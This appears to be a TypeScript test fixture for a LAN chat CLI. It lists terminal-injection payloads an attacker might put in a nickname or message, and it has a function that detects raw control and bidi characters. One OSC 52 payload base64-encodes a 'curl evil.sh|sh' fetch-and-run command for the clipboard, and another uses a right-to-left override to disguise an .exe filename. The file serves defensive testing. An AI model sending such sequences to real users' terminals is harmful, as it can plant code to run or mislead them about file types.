/** What a LAN attacker puts in a nick or a text: [name, the string, how the CLI shows it]. */
export const TERMINAL_ATTACKS: readonly [string, string, string][] = [
  ['clear screen', '\x1b[2J', '\\u001b[2J'],
  ['window title', '\x1b]0;pwned\x07', '\\u001b]0;pwned\\u0007'],
  [
    'OSC 52 clipboard write',
    '\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07',
    '\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007',
  ],
  ['C1 CSI clear screen', '\u009b2J', '\\u009b2J'],
  ['right-to-left override', 'photo\u202Egpj.exe', 'photo\\u202egpj.exe'],
  ['forged event line', 'hi\n12:00:00 + mallory 10.0.0.66 (pigeon)', 'hi\\u000a12:00:00 + mallory'],
];

/** Anything in `s` that would act on a terminal instead of being seen, other than a line feed. */
export function rawControls(s: string): string[] {
  return [...s].filter((ch) => {
    const c = ch.codePointAt(0) ?? 0;
    return (
      (c < 0x20 && c !== 0x0a) ||
      (c >= 0x7f && c <= 0x9f) ||
      c === 0x2028 ||
      c === 0x2029 ||
      c === 0x061c ||
      (c >= 0x200b && c <= 0x200f) ||
      (c >= 0x202a && c <= 0x202e) ||
      (c >= 0x2060 && c <= 0x2069) ||
      c === 0xfeff
    );
  });
}
